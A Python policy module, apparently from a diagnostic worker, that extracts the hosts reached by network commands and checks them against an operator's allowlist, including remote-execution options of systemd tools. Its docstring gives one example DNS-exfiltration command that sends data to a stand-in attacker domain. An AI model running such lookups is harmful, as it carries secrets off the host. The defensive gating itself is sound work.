"""Commands that reach other hosts: where they go, and whether the operator listed it.

`BPFSLEUTH_ALLOWED_DESTINATIONS` (worker/settings.py) is a comma-separated list of host names
(`db-1`, exact), name suffixes (`.corp.example`), IP addresses and CIDRs (`10.0.0.0/8`).
Loopback (`127.0.0.0/8`, `::1`, `localhost`) is always allowed: nothing leaves the host.

A name is a destination even for a DNS lookup: the resolver forwards the query to whoever serves
that zone, so `dig secret-data.attacker.example` carries `secret-data` off the host.
"""

from __future__ import annotations

import ipaddress
import re
from dataclasses import dataclass
from functools import lru_cache

from worker.policy.invocation import Invocation
from worker.policy.spec import words

IPNetwork = ipaddress.IPv4Network | ipaddress.IPv6Network
LOOPBACK: tuple[IPNetwork, ...] = (
    ipaddress.ip_network("127.0.0.0/8"),
    ipaddress.ip_network("::1/128"),
)
LOOPBACK_NAMES = frozenset({"localhost", "localhost.localdomain", "ip6-localhost"})

# Programs that send packets (or DNS queries) to their operands.
NETWORK_PROGRAMS = frozenset(
    {
        "ping",
        "ping6",
        "traceroute",
        "traceroute6",
        "tracepath",
        "mtr",
        "arping",
        "dig",
        "host",
        "nslookup",
        "chronyc",
        "getent",
        "resolvectl",
        "arp",
        "ss",
    }
)
_DNS_TYPES = words(
    "A AAAA ANY CAA CNAME DNSKEY DS HINFO MX NAPTR NS NSEC PTR SOA SPF SRV SSHFP TLSA TXT AXFR IXFR"
)
_DIG_PLUS = words(
    "short noall all answer noanswer authority noauthority additional noadditional question "
    "noquestion stats nostats comments nocomments cmd nocmd multiline multi nomultiline tcp "
    "notcp dnssec nodnssec recurse norecurse ttlid nottlid identify"
)
_SS_KEYWORDS = words(
    "state exclude established syn-sent syn-recv fin-wait-1 fin-wait-2 time-wait closed "
    "close-wait last-ack listening closing all connected synchronized bucket big dport sport "
    "dst src dev fwmark cgroup autobound and or not eq neq ne gt lt ge le lte gte "
    "== != < > <= >="
)
_GETENT_NET_DATABASES = frozenset({"hosts", "ahosts", "ahostsv4", "ahostsv6", "networks"})


@dataclass(frozen=True)
class Destinations:
    networks: tuple[IPNetwork, ...]
    names: frozenset[str]
    suffixes: tuple[str, ...]

    def allows(self, host: str) -> bool:
        text = host.strip("[]").lower().rstrip(".")
        try:
            address = ipaddress.ip_address(text.split("%", 1)[0])
        except ValueError:
            return (
                text in LOOPBACK_NAMES
                or text in self.names
                or any(text.endswith(suffix) for suffix in self.suffixes)
            )
        return any(address in network for network in (*LOOPBACK, *self.networks))


@lru_cache(maxsize=8)
def parse_destinations(setting: str) -> Destinations:
    """The operator's list; entries that are neither names nor addresses are ignored."""
    networks: list[IPNetwork] = []
    names: set[str] = set()
    suffixes: list[str] = []
    for raw in setting.split(","):
        entry = raw.strip().lower().rstrip(".")
        if not entry:
            continue
        try:
            networks.append(ipaddress.ip_network(entry, strict=False))
            continue
        except ValueError:
            pass
        if entry.startswith("*."):
            entry = entry[1:]
        if entry.startswith("."):
            suffixes.append(entry)
        else:
            names.add(entry)
    return Destinations(tuple(networks), frozenset(names), tuple(suffixes))


def _ss_literal(word: str) -> bool:
    """An address, prefix, `:port`, `*`, number or operator in an ss filter (no DNS lookup)."""
    if re.fullmatch(r"[0-9*!=<>]*|:[A-Za-z0-9*-]*", word):
        return True
    host = word
    if host.startswith("["):  # [v6]:port
        host = host[1:].split("]", 1)[0]
    elif host.count(":") == 1:  # v4:port or v4
        host = host.split(":", 1)[0]
    try:
        ipaddress.ip_network(host, strict=False)
    except ValueError:
        return host == "*"
    return True


def destinations_of(inv: Invocation) -> list[str] | str:
    """Hosts and names the command reaches, or a reason the form is not understood."""
    program, operands = inv.program, inv.positionals
    out: list[str] = []
    if program in {"ping", "ping6", "traceroute", "traceroute6", "tracepath", "mtr", "arping"}:
        return list(operands)
    if program == "ss":  # host names in a filter (`dst NAME`) are looked up in DNS
        for word in re.split(r"[\s()]+", " ".join(operands)):
            if word and word.lower() not in _SS_KEYWORDS and not _ss_literal(word):
                out.append(word.rsplit(":", 1)[0] if word.count(":") == 1 else word)
        return out
    if program == "arp":  # a host name operand is looked up in DNS
        return [word for word in operands if not re.fullmatch(r"[0-9a-fA-F.:]+", word)]
    if program == "dig":
        for word in operands:
            if word.startswith("@"):
                out.append(word[1:])
            elif word.startswith("+"):
                if word[1:].split("=", 1)[0] not in _DIG_PLUS:
                    return f"dig {word}: not a known query option"
            elif word.upper() not in _DNS_TYPES and word.upper() not in {"IN", "CH"}:
                out.append(word)
        out.extend(inv.values("-x"))
        return out
    if program in {"host", "nslookup"}:
        return [word for word in operands if word.upper() not in _DNS_TYPES]
    if program == "chronyc":
        return inv.values("-h")
    if program == "getent":
        if operands and operands[0] in _GETENT_NET_DATABASES:
            return operands[1:]
        return []
    if program == "resolvectl":
        return operands[1:] if operands[:1] == ["query"] else []
    return []


# systemd tools run `ssh` for `-H user@host` (and enter a container for `-M`).
_SYSTEMD_REMOTE = frozenset(
    words(
        "systemctl timedatectl hostnamectl loginctl localectl systemd-analyze busctl "
        "journalctl coredumpctl machinectl resolvectl networkctl"
    )
)


def remote_option_reason(program: str, args: list[str]) -> str | None:
    """Why `-H`/`--host`/`-M`/`--machine` of a systemd tool needs approval, or None."""
    if program not in _SYSTEMD_REMOTE:
        return None
    for arg in args:
        if arg == "--":
            break
        name = arg.split("=", 1)[0]
        if name in {"--host", "--machine"} or (
            arg.startswith("-") and not arg.startswith("--") and ({"H", "M"} & set(arg[1:]))
        ):
            return f"{program} {arg}: runs on another host over ssh (or in a container)"
    return None
